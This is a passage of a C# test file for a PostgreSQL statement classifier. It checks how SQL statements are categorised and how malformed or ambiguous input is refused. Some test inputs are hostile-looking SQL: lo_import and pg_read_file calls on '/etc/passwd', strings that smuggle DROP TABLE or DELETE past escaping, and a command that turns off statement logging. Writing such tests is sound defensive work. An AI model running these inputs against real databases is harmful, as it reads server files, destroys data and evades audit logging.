    [InlineData("CREATE TABLE t2 AS EXECUTE p (1)", "Ddl | w: t2 | flags: ExecutesPrepared | name: p")]
    [InlineData("CREATE VIEW v AS SELECT * FROM t", "Ddl | r: t | w: v")]
    [InlineData("CREATE OR REPLACE VIEW v (a) AS WITH x AS (SELECT 1) SELECT * FROM x, t", "Ddl | r: t | w: v")]
    [InlineData("CREATE MATERIALIZED VIEW IF NOT EXISTS mv AS SELECT * FROM t WITH DATA", "Ddl | r: t | w: mv")]
    [InlineData("CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON ONLY s.t USING btree (lower(email)) WHERE deleted IS NULL", "Ddl | w: s.t | f: lower")]
    [InlineData("CREATE INDEX ON t (a)", "Ddl | w: t")]
    [InlineData("CREATE SEQUENCE s OWNED BY t.id", "Ddl | r: t | w: s")]
    [InlineData("ALTER TABLE t ADD COLUMN c int", "Ddl | w: t")]
    [InlineData("ALTER TABLE IF EXISTS ONLY s.t RENAME TO u", "Ddl | w: s.t, s.u")]
    [InlineData("ALTER TABLE t RENAME COLUMN a TO b", "Ddl | w: t")]
    [InlineData("ALTER TABLE t SET SCHEMA archive", "Ddl | w: archive.t, t")]
    [InlineData("ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id)", "Ddl | r: u | w: t")]
    [InlineData("ALTER TABLE t ALTER COLUMN c TYPE int USING pg_read_file(c)::int", "Ddl | w: t | f: pg_read_file")]
    [InlineData("ALTER TABLE p ATTACH PARTITION p2 FOR VALUES IN (1)", "Ddl | w: p, p2")]
    [InlineData("ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b", "Ddl | flags: TablesIncomplete")]
    [InlineData("DROP TABLE IF EXISTS a, s.b", "Ddl | w: a, s.b")]
    [InlineData("DROP TABLE t CASCADE", "Ddl | w: t | flags: Cascade, TablesIncomplete")]
    [InlineData("DROP INDEX CONCURRENTLY i", "Ddl | w: i")]
    [InlineData("DROP MATERIALIZED VIEW mv", "Ddl | w: mv")]
    [InlineData("TRUNCATE t, u RESTART IDENTITY", "Ddl | w: t, u")]
    [InlineData("TRUNCATE TABLE ONLY t CASCADE", "Ddl | w: t | flags: Cascade, TablesIncomplete")]
    [InlineData("COMMENT ON TABLE t IS 'x'", "Ddl | w: t")]
    [InlineData("COMMENT ON COLUMN s.t.c IS 'x'", "Ddl | w: s.t")]
    [InlineData("COMMENT ON FUNCTION f(int) IS 'x'", "Ddl | f: f | flags: TablesIncomplete")]
    [InlineData("SECURITY LABEL FOR selinux ON TABLE t IS 'x'", "Ddl | w: t")]
    [InlineData("GRANT SELECT, UPDATE (a) ON t, s.u TO r", "Ddl | w: s.u, t")]
    [InlineData("REVOKE INSERT ON TABLE t FROM r", "Ddl | w: t")]
    [InlineData("GRANT ALL ON ALL TABLES IN SCHEMA public TO r", "Ddl | flags: TablesIncomplete")]
    [InlineData("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r", "Ddl | flags: TablesIncomplete")]
    [InlineData("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", "Ddl | f: f | flags: TablesIncomplete")]
    [InlineData("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END", "Ddl | f: f | flags: TablesIncomplete")]
    [InlineData("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO a VALUES (1); DELETE FROM b WHERE x IN (SELECT y FROM c); END", "Ddl | r: c | w: a, b | f: p | flags: TablesIncomplete | effects: Ddl, Delete, Insert, Select")]
    [InlineData("CREATE SCHEMA s", "Ddl | flags: TablesIncomplete")]
    [InlineData("CREATE TRIGGER trg AFTER UPDATE OF a, b ON t FOR EACH ROW EXECUTE FUNCTION audit()", "Ddl | w: t | f: audit")]
    [InlineData("CREATE CONSTRAINT TRIGGER trg AFTER INSERT ON t FROM u FOR EACH ROW EXECUTE PROCEDURE check_it()", "Ddl | r: u | w: t | f: check_it")]
    [InlineData("CREATE POLICY p ON t USING (owner = current_user)", "Ddl | w: t")]
    [InlineData("DROP POLICY IF EXISTS p ON s.t", "Ddl | w: s.t")]
    [InlineData("CREATE RULE r AS ON INSERT TO t DO INSTEAD (INSERT INTO u VALUES (1); DELETE FROM v)", "Ddl | w: t, u, v | flags: TablesIncomplete")]
    [InlineData("IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local", "Ddl | flags: TablesIncomplete")]
    public void Classify_Ddl_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("CREATE EXTENSION dblink", "Admin | flags: TablesIncomplete | effects: Admin")]
    [InlineData("CREATE ROLE r LOGIN PASSWORD 'x'", "Admin | flags: TablesIncomplete")]
    [InlineData("ALTER USER u WITH PASSWORD 'x'", "Admin | flags: TablesIncomplete")]
    [InlineData("DROP ROLE IF EXISTS r", "Admin | flags: TablesIncomplete")]
    [InlineData("CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'x')", "Admin | flags: TablesIncomplete")]
    [InlineData("ALTER SYSTEM SET log_statement = 'none'", "Admin | flags: TablesIncomplete")]
    [InlineData("LOAD 'auto_explain'", "Admin | flags: TablesIncomplete")]
    [InlineData("CREATE DATABASE d", "Admin | flags: TablesIncomplete")]
    [InlineData("DROP OWNED BY r", "Admin | flags: TablesIncomplete")]
    [InlineData("REASSIGN OWNED BY a TO b", "Admin | flags: TablesIncomplete")]
    [InlineData("CREATE FOREIGN DATA WRAPPER w", "Admin | flags: TablesIncomplete")]
    [InlineData("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "Admin | f: f | flags: TablesIncomplete")]
    [InlineData("GRANT admin TO bob", "Admin | flags: TablesIncomplete")]
    [InlineData("REVOKE admin FROM bob", "Admin | flags: TablesIncomplete")]
    [InlineData("VACUUMX", "Other | flags: FunctionsIncomplete, TablesIncomplete | effects: Other")]
    [InlineData("FROBNICATE the_table WITH lo_import('x')", "Other | f: lo_import | flags: FunctionsIncomplete, TablesIncomplete")]
    [InlineData("", "Empty | effects: Empty")]
    [InlineData("  -- nothing\n /* at all */ ; ;", "Empty")]
    [InlineData("SELECT 1;", "Select")]
    [InlineData("; ;SELECT 1; ;", "Select")]
    public void Classify_AdminOtherEmpty_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SELECT 'abc", SqlLexer.UnterminatedString)]
    [InlineData("SELECT E'abc\\'", SqlLexer.UnterminatedString)]
    [InlineData("SELECT '\\'' FROM t", SqlLexer.UnterminatedString)]
    [InlineData("SELECT /* /* */ 1", SqlLexer.UnterminatedComment)]
    [InlineData("SELECT $$abc", SqlLexer.UnterminatedDollarString)]
    [InlineData("SELECT $a$ abc $A$", SqlLexer.UnterminatedDollarString)]
    [InlineData("SELECT \"abc", SqlLexer.UnterminatedIdentifier)]
    [InlineData("SELECT \"\"", SqlLexer.EmptyIdentifier)]
    [InlineData("SELECT B'0101", SqlLexer.UnterminatedBitString)]
    [InlineData("SELECT 1; SELECT 2", SqlParser.MultipleStatements)]
    [InlineData("SELECT 1; DROP TABLE t;", SqlParser.MultipleStatements)]
    [InlineData("SELECT (1", SqlTokenReader.UnclosedParenthesis)]
    [InlineData("SELECT 1)", SqlTokenReader.UnbalancedClose)]
    [InlineData("SELECT 1\0", SqlLexer.NulByte)]
    [InlineData("SELECT '\0'", SqlLexer.NulByte)]
    [InlineData("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1;", SqlTokenReader.UnclosedAtomic)]
    [InlineData("CREATE FUNCTION f() LANGUAGE sql BEGIN ATOMIC CREATE FUNCTION g() BEGIN ATOMIC SELECT 1; END; END", SqlTokenReader.NestedAtomic)]
    public void Classify_MalformedText_InvalidDataWithReason(string sql, string reason)
    {
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.InvalidData, SqlClassifier.Classify(Encoding.UTF8.GetBytes(sql), default, info));
        Assert.Equal(reason, info.Error);
        Assert.Equal(SqlStatementClass.Other, info.Class);
        Assert.True(info.TablesIncomplete && info.FunctionsIncomplete);
    }

    [Theory]
    [InlineData("SELECT '\\'' FROM t", "Select | r: t")]
    [InlineData("SELECT 'it''s \\' ; DROP TABLE x; --' FROM t", "Select | r: t")]
    [InlineData("SELECT N'\\'' FROM t", "Select | r: t")]
    [InlineData("SELECT E'a'\n'\\'; DELETE FROM t; ' FROM t1", "Select | r: t1")]
    public void Classify_StandardConformingStringsOff_BackslashEscapesPlainStrings(string sql, string expected) =>
        Check(sql, expected, new SqlLexerOptions(standardConformingStrings: false));

    [Fact]
    public void Classify_StandardConformingStringsOff_UnicodeStringRefused()
    {
        var info = new SqlStatementInfo();
        var status = SqlClassifier.Classify("SELECT U&'x'"u8, new SqlLexerOptions(standardConformingStrings: false), info);
        Assert.Equal(OperationStatus.InvalidData, status);
        Assert.Equal(SqlLexer.UnsafeUnicodeString, info.Error);
    }

    [Fact]
    public void Classify_EscapeStringContinuation_KeepsBackslashMode()
    {
        // E'a' continued on the next line is still an E string: \' does not end it, so the ';' is inside.
        Check("SELECT E'a'\n'\\'; DELETE FROM t; ' FROM t1", "Select | r: t1");
        // A plain string continued is still plain: '\' ends it.
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.InvalidData,
            SqlClassifier.Classify("SELECT 'a'\n'\\'; DELETE FROM t; ' FROM t1"u8, default, info));
        Assert.Equal(SqlParser.MultipleStatements, info.Error);
    }

    [Fact]
    public void Classify_ReusedInfo_ResetsEverything()
    {
        var info = new SqlStatementInfo();
        var first = "WITH d AS (DELETE FROM t RETURNING *) SELECT lower(x) INTO n FROM d, u"u8;
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(first, default, info));
        Assert.NotEqual(0, info.TablesWritten.Length);
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify("SELECT 1"u8, default, info));
        Assert.Equal(SqlStatementClass.Select, info.Class);
        Assert.Equal(SqlEffects.Select, info.Effects);
        Assert.Equal(SqlStatementFlags.None, info.Flags);
        Assert.Equal(0, info.TablesRead.Length);
        Assert.Equal(0, info.TablesWritten.Length);
        Assert.Equal(0, info.Functions.Length);
        Assert.False(info.HasFunctionCalls);
        Assert.True(info.Name.IsEmpty);
    }

    [Fact]
    public void Classify_ManyTables_CapsAndFlagsTooComplex()
    {
        var sql = "SELECT * FROM " + string.Join(", ", Enumerable.Range(0, SqlStatementInfo.MaxReferences + 10).Select(i => "t" + i));
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(Encoding.UTF8.GetBytes(sql), default, info));
        Assert.Equal(SqlStatementInfo.MaxReferences, info.TablesRead.Length);
        Assert.True(info.TablesIncomplete);
        Assert.True(info.Flags.HasFlag(SqlStatementFlags.TooComplex));
    }

    [Fact]
    public void Classify_DeepNesting_FlatScanStillFindsCallsAndFlagsIncomplete()
    {
        var sql = "SELECT " + new string('(', 500) + "lo_import('/etc/passwd')" + new string(')', 500) + " FROM t";
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(Encoding.UTF8.GetBytes(sql), default, info));
        Assert.True(info.CallsFunction(Encoding.UTF8.GetBytes(sql), "lo_import"u8));
        Assert.True(info.TablesIncomplete);
        Assert.True(info.FunctionsIncomplete);
    }

    [Fact]
    public void Classify_DeepSubqueries_DoNotOverflowTheStack()
    {
        var sql = string.Concat(Enumerable.Repeat("SELECT * FROM (", 2000)) + "SELECT 1" + new string(')', 2000);
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(Encoding.UTF8.GetBytes(sql), default, info));
        Assert.True(info.TablesIncomplete);
    }

    [Fact]
    public void Classify_LongAtomicBody_DoesNotNestPerStatement()
    {
        var body = string.Concat(Enumerable.Range(0, 200).Select(i => $"INSERT INTO t{i} VALUES ({i}); "));
        var sql = "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC " + body + "END";
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(Encoding.UTF8.GetBytes(sql), default, info));
        Assert.Equal(SqlStatementClass.Ddl, info.Class);
        Assert.False(info.Flags.HasFlag(SqlStatementFlags.TooComplex));
        Assert.Equal(200, info.TablesWritten.Length);
    }

    [Fact]
    public void CallsFunction_AnySchema_MatchesByName()
    {
        var text = "SELECT pg_catalog.PG_READ_FILE('x'), \"Lo_Import\"(1)"u8;
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(text, default, info));
        Assert.True(info.HasFunctionCalls);
        Assert.True(info.CallsFunction(text, "pg_read_file"u8));
        Assert.False(info.CallsFunction(text, "lo_import"u8)); // quoted: a different function
        Assert.True(info.CallsFunction(text, "Lo_Import"u8));
    }

    [Fact]
    public void Functions_AttributeNotationOnly_NoExplicitCalls()
    {
        var text = "SELECT ('/etc/passwd'::text).pg_read_file"u8;
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(text, default, info));
        Assert.False(info.HasFunctionCalls);
        Assert.True(info.Functions[0].IsAttributeNotation);
        Assert.True(info.CallsFunction(text, "pg_read_file"u8));
    }

    [Fact]
    public void InnerStatement_Prepare_IsTheTextAfterAs()
    {
        var text = "PREPARE p (int) AS DELETE FROM t WHERE id = $1;"u8;
        var info = new SqlStatementInfo();
        Assert.Equal(OperationStatus.Done, SqlClassifier.Classify(text, default, info));
        Assert.Equal("DELETE FROM t WHERE id = $1", Encoding.UTF8.GetString(text[info.InnerStatement]));
        Assert.Equal(SqlEffects.Delete, info.InnerEffects);
    }
}
